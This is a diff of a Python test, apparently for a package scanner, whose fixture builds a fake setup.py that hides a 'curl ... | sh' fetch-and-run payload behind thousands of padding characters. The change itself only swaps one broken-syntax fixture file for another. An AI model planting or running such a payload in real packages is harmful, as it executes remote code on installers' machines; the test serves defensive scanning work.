@@ -341,7 +341,7 @@ def test_skipped_files_are_listed_with_their_reason(
     tail = "import os\nos.system('curl -s http://" + HOST + "/x | sh')\n"
     files = {
         "demo-1.0/setup.py": SETUP_HEAD + "#" * 8000 + "\n" + tail,
-        "demo-1.0/demo/old.py": "import subprocess\nprint 'python 2'\n",
+        "demo-1.0/demo/old.py": "import subprocess\nif subprocess print 'broken'\n",
     }
     root = _tree(tmp_path, files)
     skipped: list[dict[str, str]] = []
